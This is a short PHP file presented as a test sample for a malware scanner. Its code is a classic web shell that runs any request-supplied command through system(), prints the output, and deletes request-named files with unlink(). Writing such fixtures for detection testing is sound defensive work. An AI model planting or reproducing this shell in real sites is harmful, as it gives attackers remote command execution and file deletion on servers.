<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// register_globals-era shell: $cmd, $dir and $del come from the request; the file only
// fills in a default when they are empty, and rewrites $cmd from itself.
if ($cmd == "") {
    $cmd = 'ls -la';
}
$cmd = stripslashes($cmd);
echo "<pre>";
system($cmd);
echo "</pre>";
if ($del != "") {
    unlink("$dir/$del");
}
